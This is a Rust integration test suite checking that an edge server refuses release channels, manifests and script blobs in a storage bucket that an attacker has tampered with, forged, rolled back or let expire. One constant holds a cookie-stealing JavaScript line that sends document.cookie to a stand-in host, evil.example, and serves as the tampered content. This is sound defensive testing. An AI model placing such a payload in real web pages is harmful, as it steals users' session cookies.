//! Somebody who may write everything in the bucket, and holds no key: what was served goes on, and no byte that was not
//! signed for is ever served.

use std::time::Duration;

use origin_sync::release::layout;

use super::*;

const EVIL: &[u8] = b"fetch('https://evil.example/' + document.cookie);";

/// A node that serves 1.0.0 under `1`, with that in its memory, and the bucket before anybody touched it.
struct Scene {
    bucket: TestBucket,
    signer: Signer,
    one: Made,
    edge: TestEdge,
}

impl Scene {
    async fn new() -> Self {
        let (bucket, signer) = (TestBucket::start().await, Signer::new());
        let one = signer.make(
            "1.0.0",
            &[("lock.js", script("1.0.0")), ("other.js", script("other"))],
            None,
        );
        one.push(&bucket).await;
        signer.flip(&bucket, &signer.channel(5, &[("1", &one)])).await;
        let edge = start(&signer, &bucket, &[]).await;
        let scene = Self {
            bucket,
            signer,
            one,
            edge,
        };
        scene.goes_on().await;
        scene
    }

    /// What was served before still is, in every form.
    async fn goes_on(&self) {
        for path in ["/lock/1/lock.js", "/lock/1.0.0/lock.js"] {
            for coding in ["identity", "br", "gzip, br, dcb"] {
                let answer = self.edge.get(path, &[("accept-encoding", coding)]).await;
                assert_eq!(answer.status, 200, "{path} {}", answer.head);
                assert_eq!(decoded(&answer, None), script("1.0.0"), "{path} {coding}");
            }
        }
    }

    /// The channel's place holds `bytes`: they are not followed, for this reason.
    async fn refuses_channel(&self, bytes: Vec<u8>, why: &str) {
        self.bucket.put(&layout::channel(&lock()), bytes, "").await;
        let state = refresh(&self.edge).await;
        assert_eq!(state.serial, Some(5), "{why}");
        let degraded = state.degraded.unwrap_or_default();
        assert!(degraded.contains(why), "{degraded:?} {why:?}");
        let ready = operator(&self.edge, "GET /readyz", "").await;
        assert_eq!((ready.status, ready.text()), (200, "ready, degraded: release\n"));
        let line = format!(
            "edge_release_degraded{{site=\"{}\",release=\"lock\"}}",
            crate::support::HOST
        );
        assert_eq!(self.edge.metric(&line), 1, "{why}");
        self.goes_on().await;
    }

    async fn recovers(&self) {
        self.signer
            .flip(&self.bucket, &self.signer.channel(5, &[("1", &self.one)]))
            .await;
        assert_eq!(refresh(&self.edge).await.degraded, None);
        assert_eq!(operator(&self.edge, "GET /readyz", "").await.text(), "ready\n");
    }
}

#[tokio::test(flavor = "multi_thread")]
#[expect(clippy::too_many_lines, reason = "a table")]
async fn a_channel_that_is_not_to_be_believed_changes_nothing() {
    let scene = Scene::new().await;
    let (signer, one) = (&scene.signer, &scene.one);
    let two = signer.make("2.0.0", &[("lock.js", script("2.0.0"))], Some(one));
    two.push(&scene.bucket).await;
    let good = signer.channel(6, &[("1", &two)]);
    let sealed = |channel: &Channel| String::from_utf8(seal(channel, &signer.channel).unwrap()).unwrap();
    let text = sealed(&good);

    scene
        .refuses_channel(
            sealed(&signer.channel(4, &[("1", one)])).into(),
            "serial 4, below 5",
        )
        .await;
    let fork = signer.channel(5, &[("1", &two)]);
    scene
        .refuses_channel(sealed(&fork).into(), "says something else")
        .await;
    let mut expired = good.clone();
    expired.expires = 2;
    scene
        .refuses_channel(sealed(&expired).into(), "has expired")
        .await;
    let mallory = Signer::new();
    let theirs = seal(&good, &mallory.channel).unwrap();
    scene
        .refuses_channel(theirs, "is not trusted as a channel key")
        .await;
    // A release key signs no channel, also where its role is written over.
    let pem = signer
        .release
        .to_pem()
        .unwrap()
        .replace("role: release", "role: channel");
    let posing = SecretKey::from_pem(&pem).unwrap();
    scene
        .refuses_channel(seal(&good, &posing).unwrap(), "is not trusted as a channel key")
        .await;
    scene
        .refuses_channel(
            text.replacen("\"serial\":6", "\"serial\":7", 1).into(),
            "signature",
        )
        .await;
    scene
        .refuses_channel(
            text.replacen("\"serial\":6", "\"serial\":6,\"serial\":9", 1)
                .into(),
            "portico.channel",
        )
        .await;
    scene
        .refuses_channel(
            text.replacen("\"1\":{", "\"1\":{\"manifest\":\"\",", 1).into(),
            "portico.channel",
        )
        .await;
    scene
        .refuses_channel(
            text.replacen("\"serial\":6", "\"serial\":6.0", 1).into(),
            "portico.channel",
        )
        .await;
    let huge = text.replacen("\"serial\":6", "\"serial\":99999999999999999999999999", 1);
    scene.refuses_channel(huge.into(), "portico.channel").await;
    let large = text.replacen("\"serial\":6", "\"serial\":18446744073709551615", 1);
    scene.refuses_channel(large.into(), "larger than").await;
    scene
        .refuses_channel(format!(" {text}").into(), "canonical")
        .await;
    scene
        .refuses_channel(text.as_bytes()[..text.len() / 2].to_vec(), "portico.channel")
        .await;
    scene.refuses_channel(Vec::new(), "portico.channel").await;
    scene.refuses_channel(vec![b'['; 9 * 1024 * 1024], "bytes").await;
    scene
        .refuses_channel("[".repeat(100_000).into_bytes(), "portico.channel")
        .await;
    scene
        .refuses_channel(one.bytes.clone(), "portico.manifest.v1")
        .await;
    let mut elsewhere = good.clone();
    elsewhere.name = "okta".parse().unwrap();
    scene
        .refuses_channel(sealed(&elsewhere).into(), "the document of okta")
        .await;
    // Good in itself, and it leads to what is not there, or is not what it names.
    let three = signer.make("3.0.0", &[("lock.js", script("3.0.0"))], None);
    let ahead = signer.channel(7, &[("1", &three)]);
    scene
        .refuses_channel(sealed(&ahead).into(), "releases/lock/3.0.0.json is not there")
        .await;
    scene.bucket.put(&three.key(), two.bytes.clone(), "").await;
    scene
        .refuses_channel(sealed(&ahead).into(), "the document of lock 2.0.0")
        .await;
    let again = signer.make("3.0.0", &[("lock.js", EVIL.to_vec())], None);
    scene.bucket.put(&three.key(), again.bytes.clone(), "").await;
    scene
        .refuses_channel(sealed(&ahead).into(), "its digest is")
        .await;
    scene.bucket.delete(&layout::channel(&lock())).await;
    let state = refresh(&scene.edge).await;
    assert!(state.degraded.unwrap().contains("no channel any more"));
    scene.goes_on().await;
    scene.recovers().await;
    assert!(
        scene
            .edge
            .metric("edge_integrity_rejections_total{what=\"channel\"}")
            >= 12
    );
    // The release goes on when the real one comes.
    signer.flip(&scene.bucket, &good).await;
    assert_eq!(refresh(&scene.edge).await.serial, Some(6));
    assert_eq!(scene.edge.get("/lock/1/lock.js", &[]).await.body, script("2.0.0"));
    scene.edge.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_restart_does_not_go_back_behind_what_was_in_force() {
    let (bucket, signer) = (TestBucket::start().await, Signer::new());
    let one = signer.make("1.0.0", &[("lock.js", script("1.0.0"))], None);
    let two = signer.make("2.0.0", &[("lock.js", script("2.0.0"))], Some(&one));
    one.push(&bucket).await;
    two.push(&bucket).await;
    let folder = tempfile::TempDir::new().unwrap();
    let state = |config: &mut Config| config.releases.state = Some(folder.path().join("state"));
    signer.flip(&bucket, &signer.channel(2, &[("1", &two)])).await;
    let edge = start_with(&signer, &bucket, &[], state).await;
    assert_eq!(edge.get("/lock/1/lock.js", &[]).await.body, script("2.0.0"));
    edge.stop().await;
    signer.flip(&bucket, &signer.channel(1, &[("1", &one)])).await;
    let edge = start_with(&signer, &bucket, &[], state).await;
    let shown = refresh(&edge).await;
    assert_eq!(shown.serial, Some(2));
    assert!(shown.degraded.unwrap().contains("serial 1, below 2"));
    assert_eq!(edge.get("/lock/1/lock.js", &[]).await.body, script("2.0.0"));
    edge.stop().await;
    // Who is not trusted any more has no say, also not by what was kept.
    let other = Signer::new();
    let edge = start_with(&other, &bucket, &[], state).await;
    assert_eq!(refresh(&edge).await.serial, None);
    assert_eq!(edge.get("/lock/1/lock.js", &[]).await.status, 404);
    edge.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn no_blob_but_the_right_one_is_served() {
    let (bucket, signer) = (TestBucket::start().await, Signer::new());
    let old = signer.make(
        "1.0.0",
        &[("a.js", script("old")), ("b.js", script("older"))],
        None,
    );
    let one = signer.make(
        "2.0.0",
        &[
            ("a.js", script("a")),
            ("b.js", script("b")),
            ("c.js", script("c")),
        ],
        Some(&old),
    );
    old.push(&bucket).await;
    one.push(&bucket).await;
    signer.flip(&bucket, &signer.channel(1, &[("1", &one)])).await;
    let mallory = Signer::new();
    let evil = mallory.make("2.0.0", &[("a.js", EVIL.to_vec())], None);
    let blob = |digest: &Sha256| layout::blob(digest);
    let (a, b, c) = (one.file("a.js"), one.file("b.js"), one.file("c.js"));
    let edge = start(&signer, &bucket, &[]).await;
    for coding in &a.codings {
        bucket.put(&blob(&coding.sha256), evil.blobs[0].clone(), "").await;
    }
    bucket.put(&blob(&a.sha256), EVIL, "").await;
    // Swapped: good bytes of another file.
    bucket.put(&blob(&b.sha256), script("c"), "").await;
    bucket
        .put(&blob(&c.sha256), script("c")[..100].to_vec(), "")
        .await;
    for (path, coding) in [
        ("/lock/1/a.js", "identity"),
        ("/lock/1/a.js", "br"),
        ("/lock/2.0.0/a.js", "gzip, br, dcb"),
        ("/lock/1/b.js", "identity"),
        ("/lock/2.0.0/b.js", "identity"),
        ("/lock/1/c.js", "identity"),
    ] {
        let held = holding(&script("old"));
        let fields = [
            ("accept-encoding", coding),
            ("available-dictionary", held.as_str()),
        ];
        let answer = edge.get(path, &fields).await;
        assert_eq!(answer.status, 502, "{path} {coding} {}", answer.head);
        assert!(answer.field("cache-control").unwrap().contains("no-store"));
        assert!(answer.body.len() < 100, "{path} {}", answer.text());
    }
    // The forms of a file that nobody touched go on in place of those that somebody did.
    bucket.put(&blob(&b.codings[0].sha256), EVIL, "").await;
    let held = holding(&script("older"));
    let fields = [
        ("accept-encoding", "br, dcb"),
        ("available-dictionary", held.as_str()),
    ];
    let answer = edge.get("/lock/1/b.js", &fields).await;
    assert_eq!(answer.field("content-encoding"), Some("br"), "{}", answer.head);
    assert_eq!(decoded(&answer, None), script("b"));
    assert!(edge.metric("edge_integrity_rejections_total{what=\"blob\"}") >= 5);
    // What comes back is served.
    one.push(&bucket).await;
    let there = async {
        while edge.get("/lock/1/a.js", &[]).await.status != 200 {
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
    };
    crate::client::soon("the failure to be forgotten", there).await;
    assert_eq!(edge.get("/lock/1/a.js", &[]).await.body, script("a"));
    edge.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_manifest_that_is_not_to_be_believed_is_no_version() {
    let (bucket, signer) = (TestBucket::start().await, Signer::new());
    let one = signer.make("1.0.0", &[("lock.js", script("1.0.0"))], None);
    one.push(&bucket).await;
    signer.flip(&bucket, &signer.channel(1, &[("1", &one)])).await;
    let edge = start(&signer, &bucket, &[]).await;
    let mallory = Signer::new();
    let text = String::from_utf8(one.bytes.clone()).unwrap();
    let evil = mallory.make("9.0.0", &[("lock.js", EVIL.to_vec())], None);
    evil.push(&bucket).await;
    let posing = SecretKey::from_pem(
        &signer
            .channel
            .to_pem()
            .unwrap()
            .replace("role: channel", "role: release"),
    );
    let by_channel_key = seal(&evil.manifest, &posing.unwrap()).unwrap();
    let twice = text.replacen("\"files\":[", "\"files\":[],\"files\":[", 1);
    let renamed = text.replace("1.0.0", "9.0.4");
    let huge = text.replacen("\"size\":", "\"size\":1e400,\"size\":", 1);
    for (version, bytes) in [
        ("9.0.0", evil.bytes.clone()),
        ("9.0.1", one.bytes.clone()),
        ("9.0.2", by_channel_key),
        ("9.0.3", twice.into_bytes()),
        ("9.0.4", renamed.into_bytes()),
        ("9.0.5", huge.into_bytes()),
        ("9.0.6", one.bytes[..one.bytes.len() - 9].to_vec()),
        (
            "9.0.7",
            seal(&signer.channel(9, &[("1", &one)]), &signer.channel).unwrap(),
        ),
        ("9.0.8", vec![b'{'; 17 * 1024 * 1024]),
    ] {
        bucket
            .put(&format!("releases/lock/{version}.json"), bytes, "")
            .await;
        let answer = edge.get(&format!("/lock/{version}/lock.js"), &[]).await;
        assert_eq!(answer.status, 502, "{version} {}", answer.head);
        assert!(!answer.text().contains("evil"), "{version}");
    }
    assert!(edge.metric("edge_integrity_rejections_total{what=\"manifest\"}") >= 8);
    assert_eq!(edge.get("/lock/1/lock.js", &[]).await.body, script("1.0.0"));
    edge.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn another_bucket_is_asked_for_what_one_spoils_withholds_or_has_too_old() {
    let (first, second, signer) = (
        TestBucket::start().await,
        TestBucket::start().await,
        Signer::new(),
    );
    let one = signer.make("1.0.0", &[("lock.js", script("1.0.0"))], None);
    let two = signer.make("2.0.0", &[("lock.js", script("2.0.0"))], Some(&one));
    for bucket in [&first, &second] {
        one.push(bucket).await;
        two.push(bucket).await;
    }
    signer.flip(&first, &signer.channel(2, &[("1", &one)])).await;
    signer.flip(&second, &signer.channel(3, &[("1", &two)])).await;
    let edge = start(&signer, &first, &[&second]).await;
    assert_eq!(refresh(&edge).await.serial, Some(2));
    // The first one falls behind: it is known by its serial, and the other is followed.
    signer.flip(&first, &signer.channel(1, &[("1", &one)])).await;
    let state = refresh(&edge).await;
    assert_eq!((state.serial, state.degraded), (Some(3), None));
    // Spoilt in the first, withheld in the first: the second has it.
    let digest = two.file("lock.js").sha256;
    first.put(&layout::blob(&digest), EVIL, "").await;
    assert_eq!(edge.get("/lock/1/lock.js", &[]).await.body, script("2.0.0"));
    assert_eq!(edge.metric("edge_integrity_rejections_total{what=\"blob\"}"), 1);
    first.delete(&layout::blob(&one.file("lock.js").sha256)).await;
    assert_eq!(edge.get("/lock/1.0.0/lock.js", &[]).await.body, script("1.0.0"));
    edge.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn what_an_alias_led_to_stands_in_for_what_cannot_be_had() {
    let scene = Scene::new().await;
    let two = scene.signer.make("2.0.0", &[("lock.js", script("2.0.0"))], None);
    two.push(&scene.bucket).await;
    for form in [two.file("lock.js").sha256, two.file("lock.js").codings[0].sha256] {
        scene.bucket.put(&layout::blob(&form), EVIL, "").await;
    }
    scene
        .signer
        .flip(&scene.bucket, &scene.signer.channel(6, &[("1", &two)]))
        .await;
    assert_eq!(refresh(&scene.edge).await.serial, Some(6));
    let answer = scene
        .edge
        .get("/lock/1/lock.js", &[("accept-encoding", "br")])
        .await;
    assert_eq!(decoded(&answer, None), script("1.0.0"), "{}", answer.head);
    assert_eq!(
        answer
            .field("etag")
            .map(|tag| tag.starts_with(&format!("\"{}", scene.one.file("lock.js").sha256))),
        Some(true)
    );
    assert!(
        answer.field("cache-status").unwrap().contains("detail=checksum"),
        "{}",
        answer.head
    );
    assert_eq!(scene.edge.get("/lock/2.0.0/lock.js", &[]).await.status, 502);
    // Not for ever.
    scene.edge.advance(&scene.bucket, Duration::from_secs(86_401));
    assert_eq!(scene.edge.get("/lock/1/lock.js", &[]).await.status, 502);
    scene.edge.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_channel_that_expires_stays_in_force_and_its_signatures_do_not() {
    let (bucket, signer) = (TestBucket::start().await, Signer::new());
    let one = signer.make("1.0.0", &[("lock.js", script("1.0.0"))], None);
    one.push(&bucket).await;
    let mut channel = signer.channel(1, &[("1", &one)]);
    let now = u64::try_from(edge::clock::Clock::real().now().unix_seconds()).unwrap();
    channel.expires = now + 3600;
    let digest = one.file("lock.js").sha256;
    channel.integrity = [(
        digest,
        Fields::signed(&digest, &[&signer.channel], Some(now + 3600)),
    )]
    .into();
    signer.flip(&bucket, &channel).await;
    let edge = start(&signer, &bucket, &[]).await;
    let answer = edge.get("/lock/1/lock.js", &[]).await;
    assert!(answer.field("signature").is_some());
    // Nobody keeps it for longer than its signature is good.
    assert_eq!(answer.field("cache-control"), Some("public, max-age=300"));
    edge.advance(&bucket, Duration::from_secs(3_700));
    let answer = edge.get("/lock/1/lock.js", &[]).await;
    assert_eq!(
        (
            answer.status,
            answer.field("signature"),
            answer.field("unencoded-digest")
        ),
        (200, None, None)
    );
    let state = refresh(&edge).await;
    assert!(state.degraded.unwrap().contains("expired"));
    assert_eq!(
        operator(&edge, "GET /readyz", "").await.text(),
        "ready, degraded: release\n"
    );
    edge.stop().await;
}
